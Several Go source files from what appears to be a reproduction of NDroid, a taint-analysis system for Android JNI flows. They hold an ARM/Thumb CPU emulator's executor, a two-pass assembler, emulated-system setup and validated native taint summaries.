	switch cond {
	case CondEQ:
		return c.Z
	case CondNE:
		return !c.Z
	case CondCS:
		return c.C
	case CondCC:
		return !c.C
	case CondMI:
		return c.N
	case CondPL:
		return !c.N
	case CondVS:
		return c.V
	case CondVC:
		return !c.V
	case CondHI:
		return c.C && !c.Z
	case CondLS:
		return !c.C || c.Z
	case CondGE:
		return c.N == c.V
	case CondLT:
		return c.N != c.V
	case CondGT:
		return !c.Z && c.N == c.V
	case CondLE:
		return c.Z || c.N != c.V
	default:
		return true
	}
}

// Step executes a single instruction (running any hook at the current PC
// first). It returns an error for invalid encodings or failed SVCs.
func (c *CPU) Step() error {
	if c.Halted {
		return nil
	}
	pc := c.R[PC]
	if c.checkHook {
		c.checkHook = false
		if hook, ok := c.addrHooks[pc]; ok {
			switch hook(c) {
			case ActionReturn:
				ret := c.R[LR]
				c.SetThumbPC(ret)
				c.EmitBranch(pc, ret&^1)
				return nil
			}
			if c.Halted || c.R[PC] != pc {
				// The hook halted the CPU or redirected control itself.
				return nil
			}
		}
	}
	insn := c.fetch(pc)
	if insn.Op == OpInvalid {
		return c.fetchFault(pc)
	}
	c.InsnCount++
	if !c.condHolds(insn.Cond) {
		c.R[PC] = pc + insn.Size
		return nil
	}
	if c.Tracer != nil {
		c.Tracer.TraceInsn(c, pc, insn)
	}
	return c.exec(pc, insn)
}

func (c *CPU) setNZ(v uint32) {
	c.N = v&0x80000000 != 0
	c.Z = v == 0
}

func (c *CPU) addWithCarry(a, b uint32, carry uint32, setFlags bool) uint32 {
	r64 := uint64(a) + uint64(b) + uint64(carry)
	r := uint32(r64)
	if setFlags {
		c.setNZ(r)
		c.C = r64 > 0xffffffff
		c.V = (a^b)&0x80000000 == 0 && (a^r)&0x80000000 != 0
	}
	return r
}

func (c *CPU) operand2(insn Insn) uint32 {
	if insn.HasImm {
		return uint32(insn.Imm)
	}
	return c.R[insn.Rm]
}

func (c *CPU) exec(pc uint32, insn Insn) error {
	next := pc + insn.Size
	branchTo := uint32(0)
	branched := false

	switch insn.Op {
	case OpADD:
		c.R[insn.Rd] = c.addWithCarry(c.R[insn.Rn], c.operand2(insn), 0, insn.SetFlags)
	case OpSUB:
		c.R[insn.Rd] = c.addWithCarry(c.R[insn.Rn], ^c.operand2(insn), 1, insn.SetFlags)
	case OpRSB:
		c.R[insn.Rd] = c.addWithCarry(c.operand2(insn), ^c.R[insn.Rn], 1, insn.SetFlags)
	case OpADC:
		carry := uint32(0)
		if c.C {
			carry = 1
		}
		c.R[insn.Rd] = c.addWithCarry(c.R[insn.Rn], c.operand2(insn), carry, insn.SetFlags)
	case OpSBC:
		carry := uint32(0)
		if c.C {
			carry = 1
		}
		c.R[insn.Rd] = c.addWithCarry(c.R[insn.Rn], ^c.operand2(insn), carry, insn.SetFlags)
	case OpAND:
		c.R[insn.Rd] = c.R[insn.Rn] & c.operand2(insn)
		if insn.SetFlags {
			c.setNZ(c.R[insn.Rd])
		}
	case OpORR:
		c.R[insn.Rd] = c.R[insn.Rn] | c.operand2(insn)
		if insn.SetFlags {
			c.setNZ(c.R[insn.Rd])
		}
	case OpEOR:
		c.R[insn.Rd] = c.R[insn.Rn] ^ c.operand2(insn)
		if insn.SetFlags {
			c.setNZ(c.R[insn.Rd])
		}
	case OpBIC:
		c.R[insn.Rd] = c.R[insn.Rn] &^ c.operand2(insn)
		if insn.SetFlags {
			c.setNZ(c.R[insn.Rd])
		}
	case OpLSL:
		sh := c.operand2(insn) & 0xff
		v := c.R[insn.Rn]
		if sh >= 32 {
			v = 0
		} else {
			v <<= sh
		}
		c.R[insn.Rd] = v
		if insn.SetFlags {
			c.setNZ(v)
		}
	case OpLSR:
		sh := c.operand2(insn) & 0xff
		v := c.R[insn.Rn]
		if sh >= 32 {
			v = 0
		} else {
			v >>= sh
		}
		c.R[insn.Rd] = v
		if insn.SetFlags {
			c.setNZ(v)
		}
	case OpASR:
		sh := c.operand2(insn) & 0xff
		if sh >= 32 {
			sh = 31
		}
		v := uint32(int32(c.R[insn.Rn]) >> sh)
		c.R[insn.Rd] = v
		if insn.SetFlags {
			c.setNZ(v)
		}
	case OpROR:
		sh := c.operand2(insn) & 31
		v := c.R[insn.Rn]
		v = v>>sh | v<<(32-sh)
		c.R[insn.Rd] = v
		if insn.SetFlags {
			c.setNZ(v)
		}
	case OpMUL:
		c.R[insn.Rd] = c.R[insn.Rn] * c.R[insn.Rm]
		if insn.SetFlags {
			c.setNZ(c.R[insn.Rd])
		}
	case OpSDIV:
		d := int32(c.R[insn.Rm])
		if d == 0 {
			c.R[insn.Rd] = 0
		} else {
			c.R[insn.Rd] = uint32(int32(c.R[insn.Rn]) / d)
		}
	case OpUDIV:
		d := c.R[insn.Rm]
		if d == 0 {
			c.R[insn.Rd] = 0
		} else {
			c.R[insn.Rd] = c.R[insn.Rn] / d
		}
	case OpMOV:
		c.R[insn.Rd] = c.operand2(insn)
		if insn.SetFlags {
			c.setNZ(c.R[insn.Rd])
		}
	case OpMVN:
		c.R[insn.Rd] = ^c.operand2(insn)
		if insn.SetFlags {
			c.setNZ(c.R[insn.Rd])
		}
	case OpMOVW:
		c.R[insn.Rd] = uint32(insn.Imm) & 0xffff
	case OpMOVT:
		c.R[insn.Rd] = c.R[insn.Rd]&0xffff | uint32(insn.Imm)<<16
	case OpCMP:
		c.addWithCarry(c.R[insn.Rn], ^c.operand2(insn), 1, true)
	case OpCMN:
		c.addWithCarry(c.R[insn.Rn], c.operand2(insn), 0, true)
	case OpTST:
		c.setNZ(c.R[insn.Rn] & c.operand2(insn))
	case OpTEQ:
		c.setNZ(c.R[insn.Rn] ^ c.operand2(insn))
	case OpLDR, OpLDRB, OpLDRH:
		addr := c.memAddr(insn)
		if badAddr(addr) {
			return c.memFault(pc, addr)
		}
		switch insn.Op {
		case OpLDR:
			c.R[insn.Rd] = c.Mem.Read32(addr)
		case OpLDRB:
			c.R[insn.Rd] = uint32(c.Mem.Read8(addr))
		case OpLDRH:
			c.R[insn.Rd] = uint32(c.Mem.Read16(addr))
		}
	case OpSTR, OpSTRB, OpSTRH:
		addr := c.memAddr(insn)
		if badAddr(addr) {
			return c.memFault(pc, addr)
		}
		switch insn.Op {
		case OpSTR:
			c.Mem.Write32(addr, c.R[insn.Rd])
		case OpSTRB:
			c.Mem.Write8(addr, uint8(c.R[insn.Rd]))
		case OpSTRH:
			c.Mem.Write16(addr, uint16(c.R[insn.Rd]))
		}
	case OpSTM:
		count := popCount(insn.RegList)
		base := c.R[insn.Rn]
		if insn.Writeback { // push semantics: descending
			base -= 4 * count
		}
		if badAddr(base) {
			// Checked before the writeback lands so a faulting push leaves the
			// base register unchanged (deopt contract: no partial state).
			return c.memFault(pc, base)
		}
		if insn.Writeback {
			c.R[insn.Rn] = base
		}
		addr := base
		for r := 0; r < 16; r++ {
			if insn.RegList&(1<<r) != 0 {
				c.Mem.Write32(addr, c.R[r])
				addr += 4
			}
		}
	case OpLDM:
		addr := c.R[insn.Rn]
		if badAddr(addr) {
			return c.memFault(pc, addr)
		}
		for r := 0; r < 16; r++ {
			if insn.RegList&(1<<r) == 0 {
				continue
			}
			v := c.Mem.Read32(addr)
			addr += 4
			if r == PC {
				branched = true
				branchTo = v
			} else {
				c.R[r] = v
			}
		}
		if insn.Writeback {
			c.R[insn.Rn] = addr
		}
	case OpB:
		branched = true
		branchTo = next + uint32(insn.Imm)
		if c.Thumb {
			branchTo |= 1
		}
	case OpBL:
		lr := next
		if c.Thumb {
			lr |= 1
		}
		c.R[LR] = lr
		branched = true
		branchTo = next + uint32(insn.Imm)
		if c.Thumb {
			branchTo |= 1
		}
	case OpBX:
		branched = true
		branchTo = c.R[insn.Rm]
	case OpBLX:
		lr := next
		if c.Thumb {
			lr |= 1
		}
		c.R[LR] = lr
		branched = true
		branchTo = c.R[insn.Rm]
	case OpSVC:
		if c.SVC == nil {
			return fmt.Errorf("arm: SVC #%d at 0x%08x with no handler", insn.Imm, pc)
		}
		if err := c.SVC(c, uint32(insn.Imm)); err != nil {
			return fmt.Errorf("arm: SVC #%d at 0x%08x: %w", insn.Imm, pc, err)
		}
	case OpNOP:
		// nothing
	case OpHLT:
		c.Halted = true
		return nil
	case OpFADDS, OpFSUBS, OpFMULS, OpFDIVS:
		a := math.Float32frombits(c.R[insn.Rn])
		b := math.Float32frombits(c.R[insn.Rm])
		var r float32
		switch insn.Op {
		case OpFADDS:
			r = a + b
		case OpFSUBS:
			r = a - b
		case OpFMULS:
			r = a * b
		case OpFDIVS:
			r = a / b
		}
		c.R[insn.Rd] = math.Float32bits(r)
	case OpFADDD, OpFSUBD, OpFMULD, OpFDIVD:
		a := c.readF64(insn.Rn)
		b := c.readF64(insn.Rm)
		var r float64
		switch insn.Op {
		case OpFADDD:
			r = a + b
		case OpFSUBD:
			r = a - b
		case OpFMULD:
			r = a * b
		case OpFDIVD:
			r = a / b
		}
		c.writeF64(insn.Rd, r)
	case OpSITOF:
		c.R[insn.Rd] = math.Float32bits(float32(int32(c.R[insn.Rm])))
	case OpFTOSI:
		c.R[insn.Rd] = uint32(int32(math.Float32frombits(c.R[insn.Rm])))
	case OpSITOD:
		c.writeF64(insn.Rd, float64(int32(c.R[insn.Rm])))
	case OpDTOSI:
		c.R[insn.Rd] = uint32(int32(c.readF64(insn.Rm)))
	default:
		return c.undefFault(pc, insn)
	}

	if branched {
		c.SetThumbPC(branchTo)
		c.EmitBranch(pc, branchTo&^1)
	} else {
		c.R[PC] = next
	}
	return nil
}

func (c *CPU) memAddr(insn Insn) uint32 {
	if insn.RegOffset {
		return c.R[insn.Rn] + c.R[insn.Rm]
	}
	return c.R[insn.Rn] + uint32(insn.Imm)
}

func (c *CPU) readF64(r int8) float64 {
	lo := uint64(c.R[r])
	hi := uint64(c.R[r+1])
	return math.Float64frombits(hi<<32 | lo)
}

func (c *CPU) writeF64(r int8, v float64) {
	bits := math.Float64bits(v)
	c.R[r] = uint32(bits)
	c.R[r+1] = uint32(bits >> 32)
}

func popCount(v uint16) uint32 {
	var n uint32
	for v != 0 {
		n += uint32(v & 1)
		v >>= 1
	}
	return n
}

// Run executes until the CPU halts, an error occurs, or maxInsns are
// executed (0 means a generous default of 256M).
func (c *CPU) Run(maxInsns uint64) error {
	return c.RunUntil(0xffffffff, maxInsns)
}

// RunUntil executes until PC reaches stop, the CPU halts, an error occurs,
// or maxInsns instructions have been executed. It is the primitive that the
// JNI call bridge uses to run a native method to completion: the bridge sets
// LR to a return pad and runs until the pad is reached.
func (c *CPU) RunUntil(stop uint32, maxInsns uint64) error {
	if maxInsns == 0 {
		maxInsns = 256 << 20
	}
	if c.UseBlockCache {
		return c.runBlocks(stop, maxInsns)
	}
	start := c.InsnCount
	for !c.Halted && c.R[PC] != stop {
		if f := fault.Hit(SiteDispatch, c.R[PC]); f != nil {
			return f
		}
		if err := c.Step(); err != nil {
			return err
		}
		if c.InsnCount-start > maxInsns {
			return c.budgetFault(maxInsns)
		}
	}
	return nil
}

// ResetDecodeCache clears every translation cache — the hot-instruction
// cache, the translated-block cache — and their statistics.
func (c *CPU) ResetDecodeCache() {
	c.decodeCache = make(map[uint32]*decodePage)
	c.lastPageKey = ^uint32(0)
	c.lastPage = nil
	c.CacheHits = 0
	c.CacheMisses = 0
	c.invalidateAllBlocks()
	c.codePages = nil
	c.codeExt = nil
	c.BlockHits = 0
	c.BlockMisses = 0
	c.GateFlips = 0
	c.GateFastBlocks = 0
	c.GateSlowBlocks = 0
	c.gateBail = false
	c.gateWasLive = false
}
