package arm

import (
	"fmt"
	"strconv"
	"strings"
)

// Program is the output of the assembler: a relocated code+data image.
type Program struct {
	Base   uint32
	Code   []byte
	Labels map[string]uint32 // absolute; Thumb labels carry bit 0

	// WriteMask is the union of WriteRegs over every encoded instruction: a
	// static bound on the general registers any execution of this image can
	// write. The fused JNI bridge saves only these (plus the AAPCS
	// caller-saved set) instead of the full CPU state.
	WriteMask uint32
}

// Size returns the image size in bytes.
func (p *Program) Size() uint32 { return uint32(len(p.Code)) }

// Label returns the absolute address of a label, with interworking bit for
// Thumb labels.
func (p *Program) Label(name string) (uint32, error) {
	v, ok := p.Labels[name]
	if !ok {
		return 0, fmt.Errorf("arm: unknown label %q", name)
	}
	return v, nil
}

// MustLabel is Label for known-good names (panics otherwise); used by test
// and fixture code.
func (p *Program) MustLabel(name string) uint32 {
	v, err := p.Label(name)
	if err != nil {
		panic(err)
	}
	return v
}

// Assemble translates source into a Program based at base. Supported syntax:
//
//	; @ // comments         .arm / .thumb
//	label:                  .word expr[, expr...]
//	MNEMONIC operands       .byte n[, n...]    .half n[, n...]
//	                        .asciz "s"  .ascii "s"  .space N  .align [n]
//	                        .equ name, value
//
// extern maps external symbol names to absolute addresses (Thumb targets must
// carry bit 0). Mnemonics accept condition suffixes (MOVEQ, BNE, ...) and the
// S suffix (ADDS). The `LDR Rd, =expr` pseudo-instruction expands to
// MOVW+MOVT (ARM mode only).
func Assemble(source string, base uint32, extern map[string]uint32) (*Program, error) {
	a := &assembler{
		base:   base,
		syms:   map[string]symbol{},
		extern: extern,
	}
	lines := strings.Split(source, "\n")

	// Pass 1: layout.
	if err := a.layout(lines); err != nil {
		return nil, err
	}
	// Pass 2: encode.
	if err := a.emit(); err != nil {
		return nil, err
	}
	labels := make(map[string]uint32, len(a.syms))
	for name, s := range a.syms {
		v := s.value
		if s.thumbLabel {
			v |= 1
		}
		labels[name] = v
	}
	return &Program{Base: base, Code: a.out, Labels: labels, WriteMask: a.writeMask}, nil
}

// MustAssemble is Assemble for fixture code that is known to be valid.
func MustAssemble(source string, base uint32, extern map[string]uint32) *Program {
	p, err := Assemble(source, base, extern)
	if err != nil {
		panic(err)
	}
	return p
}

type symbol struct {
	value      uint32
	thumbLabel bool
}

type stmt struct {
	lineNo int
	addr   uint32
	thumb  bool
	mnem   string   // uppercase mnemonic, or ".word" etc.
	ops    string   // raw operand text
	size   uint32   // bytes occupied
	data   []byte   // for data directives resolved at layout time
	defers []string // expressions resolved in pass 2 (.word operands)
}

type assembler struct {
	base      uint32
	pc        uint32
	thumb     bool
	syms      map[string]symbol
	extern    map[string]uint32
	stmts     []stmt
	out       []byte
	writeMask uint32
}

func (a *assembler) errf(lineNo int, format string, args ...interface{}) error {
	return fmt.Errorf("arm: line %d: %s", lineNo, fmt.Sprintf(format, args...))
}

func stripComment(line string) string {
	for i := 0; i < len(line); i++ {
		switch line[i] {
		case ';', '@':
			return line[:i]
		case '/':
			if i+1 < len(line) && line[i+1] == '/' {
				return line[:i]
			}
		case '"': // skip string literals
			for i++; i < len(line) && line[i] != '"'; i++ {
			}
		}
	}
	return line
}

func (a *assembler) layout(lines []string) error {
	a.pc = a.base
	for ln, raw := range lines {
		lineNo := ln + 1
		line := strings.TrimSpace(stripComment(raw))
		if line == "" {
			continue
		}
		// Labels (possibly several per line).
		for {
			idx := strings.Index(line, ":")
			if idx < 0 || strings.ContainsAny(line[:idx], " \t\",[#") {
				break
			}
			name := strings.TrimSpace(line[:idx])
			if !isIdent(name) {
				break
			}
			if _, dup := a.syms[name]; dup {
				return a.errf(lineNo, "duplicate label %q", name)
			}
			a.syms[name] = symbol{value: a.pc, thumbLabel: a.thumb}
			line = strings.TrimSpace(line[idx+1:])
			if line == "" {
				break
			}
		}
		if line == "" {
			continue
		}
		fields := strings.SplitN(line, " ", 2)
		mnem := strings.ToUpper(fields[0])
		ops := ""
		if len(fields) == 2 {
			ops = strings.TrimSpace(fields[1])
		}
		st := stmt{lineNo: lineNo, addr: a.pc, thumb: a.thumb, mnem: mnem, ops: ops}

		switch mnem {
		case ".ARM":
			a.align(2)
			a.thumb = false
			continue
		case ".THUMB":
			a.align(1)
			a.thumb = true
			continue
		case ".ALIGN":
			n := uint32(4)
			if ops != "" {
				v, err := a.number(ops)
				if err != nil {
					return a.errf(lineNo, "bad .align operand: %v", err)
				}
				n = v
			}
			if n == 0 || a.pc%n == 0 {
				continue
			}
			pad := n - a.pc%n
			st.mnem = ".space"
			st.size = pad
			st.data = make([]byte, pad)
		case ".EQU":
			parts := splitOperands(ops)
			if len(parts) != 2 {
				return a.errf(lineNo, ".equ needs name, value")
			}
			v, err := a.number(parts[1])
			if err != nil {
				return a.errf(lineNo, "bad .equ value: %v", err)
			}
			a.syms[parts[0]] = symbol{value: v}
			continue
		case ".WORD":
			parts := splitOperands(ops)
			st.size = uint32(4 * len(parts))
			st.defers = parts
		case ".HALF":
			parts := splitOperands(ops)
			st.size = uint32(2 * len(parts))
			st.defers = parts
		case ".BYTE":
			parts := splitOperands(ops)
			st.size = uint32(len(parts))
			st.defers = parts
		case ".ASCIZ", ".ASCII":
			s, err := strconv.Unquote(ops)
			if err != nil {
				return a.errf(lineNo, "bad string literal %s", ops)
			}
			st.data = []byte(s)
			if mnem == ".ASCIZ" {
				st.data = append(st.data, 0)
			}
			st.size = uint32(len(st.data))
		case ".SPACE":
			v, err := a.number(ops)
			if err != nil {
				return a.errf(lineNo, "bad .space size: %v", err)
			}
			st.size = v
			st.data = make([]byte, v)
		default:
			if strings.HasPrefix(mnem, ".") {
				return a.errf(lineNo, "unknown directive %s", mnem)
			}
			size, err := a.insnSize(mnem, ops, a.thumb)
			if err != nil {
				return a.errf(lineNo, "%v", err)
			}
			st.size = size
		}
		a.stmts = append(a.stmts, st)
		a.pc += st.size
	}
	return nil
}

func (a *assembler) align(n uint32) {
	if a.pc%n != 0 {
		pad := n - a.pc%n
		a.stmts = append(a.stmts, stmt{addr: a.pc, mnem: ".space", size: pad, data: make([]byte, pad)})
		a.pc += pad
	}
}

// insnSize determines encoded size during layout.
func (a *assembler) insnSize(mnem, ops string, thumb bool) (uint32, error) {
	base, _, _, err := splitMnemonic(mnem)
	if err != nil {
		return 0, err
	}
	if !thumb {
		if base == "LDR" && strings.Contains(ops, "=") {
			return 8, nil // MOVW + MOVT
		}
		if (base == "B" || base == "BL") && a.isExtern(ops) {
			// Out-of-module target: expand to a veneer
			// (MOVW IP / MOVT IP / BX|BLX IP).
			return 12, nil
		}
		return 4, nil
	}
	if base == "BL" {
		if a.isExtern(ops) {
			return 0, fmt.Errorf("thumb BL to external symbol %q unsupported (call from ARM mode)", ops)
		}
		return 4, nil
	}
	if base == "LDR" && strings.Contains(ops, "=") {
		return 0, fmt.Errorf("LDR= pseudo-instruction is ARM-mode only")
	}
	return 2, nil
}

// isExtern reports whether the branch operand names an external symbol
// (resolved through the extern table rather than a local label).
func (a *assembler) isExtern(ops string) bool {
	if a.extern == nil {
		return false
	}
	_, ok := a.extern[strings.TrimSpace(ops)]
	return ok
}

func (a *assembler) emit() error {
	total := a.pc - a.base
	a.out = make([]byte, total)
	for _, st := range a.stmts {
		off := st.addr - a.base
		switch {
		case st.data != nil:
			copy(a.out[off:], st.data)
		case st.mnem == ".WORD":
			for i, expr := range st.defers {
				v, err := a.eval(expr)
				if err != nil {
					return a.errf(st.lineNo, "%v", err)
				}
				putU32(a.out[off+uint32(4*i):], v)
			}
		case st.mnem == ".HALF":
			for i, expr := range st.defers {
				v, err := a.eval(expr)
				if err != nil {
					return a.errf(st.lineNo, "%v", err)
				}
				putU16(a.out[off+uint32(2*i):], uint16(v))
			}
		case st.mnem == ".BYTE":
			for i, expr := range st.defers {
				v, err := a.eval(expr)
				if err != nil {
					return a.errf(st.lineNo, "%v", err)
				}
				a.out[off+uint32(i)] = byte(v)
			}
		default:
			if err := a.emitInsn(st, off); err != nil {
				return err
			}
		}
	}
	return nil
}

func putU32(b []byte, v uint32) {
	b[0], b[1], b[2], b[3] = byte(v), byte(v>>8), byte(v>>16), byte(v>>24)
}

func putU16(b []byte, v uint16) {
	b[0], b[1] = byte(v), byte(v>>8)
}

func (a *assembler) emitInsn(st stmt, off uint32) error {
	insns, err := a.parseInsn(st)
	if err != nil {
		return a.errf(st.lineNo, "%v", err)
	}
	pos := off
	for _, insn := range insns {
		a.writeMask |= insn.WriteRegs()
		if st.thumb {
			hws, err := EncodeThumb(insn)
			if err != nil {
				return a.errf(st.lineNo, "%v", err)
			}
			for _, hw := range hws {
				putU16(a.out[pos:], hw)
				pos += 2
			}
		} else {
			w, err := Encode(insn)
			if err != nil {
				return a.errf(st.lineNo, "%v", err)
			}
			putU32(a.out[pos:], w)
			pos += 4
		}
	}
	if pos-off != st.size {
		return a.errf(st.lineNo, "internal: size mismatch (%d vs %d)", pos-off, st.size)
	}
	return nil
}

// eval resolves an expression: number, label, extern symbol, or sym+N / sym-N.
func (a *assembler) eval(expr string) (uint32, error) {
	expr = strings.TrimSpace(expr)
	if v, err := a.number(expr); err == nil {
		return v, nil
	}
	// sym+N / sym-N
	for i := 1; i < len(expr); i++ {
		if expr[i] == '+' || expr[i] == '-' {
			baseV, err := a.eval(expr[:i])
			if err != nil {
				return 0, err
			}
			offV, err := a.number(expr[i+1:])
			if err != nil {
				return 0, err
			}
			if expr[i] == '+' {
				return baseV + offV, nil
			}
			return baseV - offV, nil
		}
	}
	if s, ok := a.syms[expr]; ok {
		v := s.value
		if s.thumbLabel {
			v |= 1
		}
		return v, nil
	}
	if a.extern != nil {
		if v, ok := a.extern[expr]; ok {
			return v, nil
		}
	}
	return 0, fmt.Errorf("undefined symbol %q", expr)
}

func (a *assembler) number(s string) (uint32, error) {
	s = strings.TrimSpace(s)
	neg := false
	if strings.HasPrefix(s, "-") {
		neg = true
		s = s[1:]
	}
	v, err := strconv.ParseUint(s, 0, 32)
	if err != nil {
		return 0, fmt.Errorf("not a number: %q", s)
	}
	if neg {
		return uint32(-int32(v)), nil
	}
	return uint32(v), nil
}

func isIdent(s string) bool {
	if s == "" {
		return false
	}
	for i, r := range s {
		ok := r == '_' || r == '.' || (r >= 'a' && r <= 'z') || (r >= 'A' && r <= 'Z') || (i > 0 && r >= '0' && r <= '9')
		if !ok {
			return false
		}
	}
	return true
}

// splitOperands splits on commas not inside braces, brackets, or quotes.
func splitOperands(s string) []string {
	var out []string
	depth := 0
	start := 0
	inStr := false
	for i := 0; i < len(s); i++ {
		switch s[i] {
		case '"':
			inStr = !inStr
		case '{', '[':
			if !inStr {
				depth++
			}
		case '}', ']':
			if !inStr {
				depth--
			}
		case ',':
			if depth == 0 && !inStr {
				out = append(out, strings.TrimSpace(s[start:i]))
				start = i + 1
			}
		}
	}
	last := strings.TrimSpace(s[start:])
	if last != "" || len(out) > 0 {
		out = append(out, last)
	}
	return out
}
