// Package core implements NDroid, the paper's contribution: a dynamic taint
// analysis system that tracks information flows crossing the JNI boundary.
// It assembles five engines on top of the emulated Android stack:
//
//   - the Taint Engine (shadow registers, byte-granular memory taint, and an
//     indirect-reference shadow map; §V-E),
//   - the DVM Hook Engine (JNI entry/exit, object creation, field access,
//     exceptions; §V-B),
//   - the Instruction Tracer (Table V ARM/Thumb propagation; §V-C),
//   - the System Lib Hook Engine (Table VI models and Table VII sinks; §V-D),
//   - the OS-Level View Reconstructor (§V-F),
//
// with the multilevel hooking state machine (Fig. 5) gating the JNI-exit
// instrumentation.
package core

import (
	"fmt"

	"repro/internal/arm"
	"repro/internal/dvm"
	"repro/internal/kernel"
	"repro/internal/libc"
	"repro/internal/mem"
	"repro/internal/taint"
)

// System is the full emulated Android stack an Analyzer runs an app on.
type System struct {
	Mem  *mem.Memory
	CPU  *arm.CPU
	Kern *kernel.Kernel
	Task *kernel.Task
	Libc *libc.Libc
	VM   *dvm.VM

	// Taint is the system-lifetime shadow-taint map. Analyzers bind their
	// taint engine to it rather than allocating their own, so the snapshot
	// machinery can rewind it page-for-page alongside guest memory.
	Taint *taint.MemTaint
}

// NewSystem boots a fresh stack: guest memory, kernel with one app task,
// libc/libm images, CPU, and a Dalvik VM with the framework registered.
func NewSystem() (*System, error) {
	m := mem.New()
	k := kernel.New(m)
	task := k.NewTask("app_process")
	c := arm.New(m)
	c.R[arm.SP] = kernel.NativeStackTop
	// The block translation cache is the analog of QEMU's TCG translation
	// cache and is on in every mode, with the decoded-instruction cache
	// backing cold paths (Step) and translation; NDroid's *handler* cache
	// (§V-C) is a separate knob on the tracer.
	c.UseDecodeCache = true
	c.UseBlockCache = true
	c.SVC = func(c *arm.CPU, num uint32) error { return k.Syscall(task, c, num) }
	lc, err := libc.New(m, k, task)
	if err != nil {
		return nil, fmt.Errorf("core: %w", err)
	}
	lc.Install(c)
	vm := dvm.New(m, c, k, task, lc)
	return &System{Mem: m, CPU: c, Kern: k, Task: task, Libc: lc, VM: vm,
		Taint: taint.NewMemTaint()}, nil
}

// MustNewSystem is NewSystem for fixtures.
func MustNewSystem() *System {
	s, err := NewSystem()
	if err != nil {
		panic(err)
	}
	return s
}
