package core

// Auto-generated native taint summaries (μDep-style). The static half lives
// in internal/summary: a taint-transfer dataflow over each candidate
// function's NativeCFG derives which return-register taints depend on which
// argument-register taints. This file owns the dynamic half — lazy per-lib
// synthesis (served through a cache so shared libs replay across apps),
// mutation-based validation in the live emulator, application at JNI
// crossings (suppress the instruction tracer, compute the return taint from
// the transfer), and eviction when RegisterNatives churn or self-modifying
// code invalidates the code the synthesis read.
//
// The soundness bar is the repo's usual one: flow logs and verdicts must be
// byte-identical with summaries on and off. A summary therefore only
// replaces tracing when (a) the static pass proved every instruction has an
// exact tracer mirror, (b) the return rows depend on nothing but the four
// argument cells the bridge models, and (c) — in validated mode — the
// transfer survived systematic single-cell input mutation in the emulator.
// Everything else stays on the full-tracing path, counted but silent: no
// summary decision may write the flow log.

import (
	"encoding/binary"
	"fmt"
	"sort"

	"repro/internal/arm"
	"repro/internal/cas"
	"repro/internal/dvm"
	"repro/internal/fault"
	"repro/internal/kernel"
	"repro/internal/static"
	"repro/internal/summary"
	"repro/internal/taint"
)

// SiteSummaryValidate sits inside the mutation-validation harness. The site
// has absorbed semantics: an injected fault reads as a validation mismatch,
// so the summary is demoted to full tracing and the flow log is unchanged —
// the same containment story as a cache fault.
const SiteSummaryValidate = "core.summary.validate"

func init() {
	fault.RegisterSite(SiteSummaryValidate, "core")
}

// SummaryMode selects how auto-generated native taint summaries are used.
type SummaryMode int

// Summary settings for AnalyzeOptions.Summaries.
const (
	// SummaryOff disables summaries entirely: every third-party native
	// instruction is traced. The parity baseline.
	SummaryOff SummaryMode = iota
	// SummaryStatic trusts statically sound, argument-only transfers without
	// dynamic confirmation. Value-dependent transfers the static pass
	// over-approximates can diverge from tracing; this tier exists as the
	// ablation arm that demonstrates why validation is required.
	SummaryStatic
	// SummaryValidated additionally requires each transfer to survive
	// mutation-based validation in the emulator before it is trusted; a
	// mismatch demotes the function to full tracing with a typed
	// SummaryRejected diagnostic. The production setting.
	SummaryValidated
)

var summaryModeNames = map[SummaryMode]string{
	SummaryOff:       "off",
	SummaryStatic:    "static",
	SummaryValidated: "validated",
}

// String names the mode (the -summaries flag values).
func (m SummaryMode) String() string {
	if s, ok := summaryModeNames[m]; ok {
		return s
	}
	return fmt.Sprintf("SummaryMode(%d)", int(m))
}

// ParseSummaryMode parses a -summaries flag value.
func ParseSummaryMode(s string) (SummaryMode, error) {
	for m, n := range summaryModeNames {
		if n == s {
			return m, nil
		}
	}
	return 0, fmt.Errorf("unknown summaries mode %q (want off|static|validated)", s)
}

// SummaryCache serves persisted per-library syntheses. The Runner implements
// it over its in-memory map and the content-addressed artifact store; a nil
// cache just synthesizes every time. Only the static synthesis is cached —
// validation verdicts depend on the concrete argument values observed at a
// live crossing and are re-derived per analyzer.
type SummaryCache interface {
	LoadSummaries(key string) (*summary.PortableLib, bool)
	StoreSummaries(key string, p *summary.PortableLib)
}

// summaryLibKey digests one loaded library image the same way the Runner's
// LibPrint does: load base plus code bytes, name excluded, so two apps
// shipping the same native code share the artifact.
func summaryLibKey(lib dvm.LoadedLib) string {
	var b [4]byte
	binary.LittleEndian.PutUint32(b[:], lib.Prog.Base)
	return cas.DigestBytes(b[:], lib.Prog.Code)
}

// sumFunc is one function's per-analyzer summary state.
type sumFunc struct {
	lib       string
	t         *summary.Transfer
	validated bool // mutation validation passed (validated mode)
	rejected  bool // demoted to tracing for this analyzer's lifetime
	applied   uint64
}

// sumLib groups a library's functions for the per-lib report.
type sumLib struct {
	name  string
	funcs []*sumFunc
}

// sumPending is one JNI crossing's summary decision, pushed at entry and
// popped at return. active means the tracer is suppressed and the return
// taint comes from the transfer.
type sumPending struct {
	fn     *sumFunc
	active bool
	wide   bool
	args   [summary.NumArgCells]taint.Tag
}

// EnableSummaries switches the analyzer's summary mode (default off). Call
// after NewAnalyzer and any DisableSurface, before Run. cache may be nil.
func (a *Analyzer) EnableSummaries(mode SummaryMode, cache SummaryCache) {
	a.sumMode = mode
	a.sumCache = cache
	a.wireCodeWrite()
}

// summariesLive reports that crossings should consult the summary machinery:
// summaries are on and this mode actually hooks JNI crossings with a tracer
// to suppress (only NDroid installs both the DVM hooks and the selective
// tracer; DroidScope traces but has no JNI-semantic hooks, so its crossings
// never reach summaryEnter anyway).
func (a *Analyzer) summariesLive() bool {
	return a.sumMode != SummaryOff && a.Mode == ModeNDroid && a.Tracer != nil
}

// wireCodeWrite installs the CPU code-write callback, dispatching to the
// surface observer and/or summary eviction depending on what is enabled.
// Both consumers ride one callback slot, so disabling the surface observer
// must not silently drop summary eviction (and vice versa).
func (a *Analyzer) wireCodeWrite() {
	surf := a.Surface
	sumOn := a.sumMode != SummaryOff
	cpu := a.Sys.CPU
	switch {
	case surf == nil && !sumOn:
		cpu.OnCodeWrite = nil
	case surf != nil && !sumOn:
		cpu.OnCodeWrite = func(addr uint32) { surf.CodeWrite(addr) }
	default:
		cpu.OnCodeWrite = func(addr uint32) {
			if surf != nil {
				surf.CodeWrite(addr)
			}
			// A write into a code page may have rewritten instructions a
			// synthesis read; drop everything and mark the run churned so
			// re-synthesis refuses to trust the mutated image.
			a.voidSummaries()
		}
	}
}

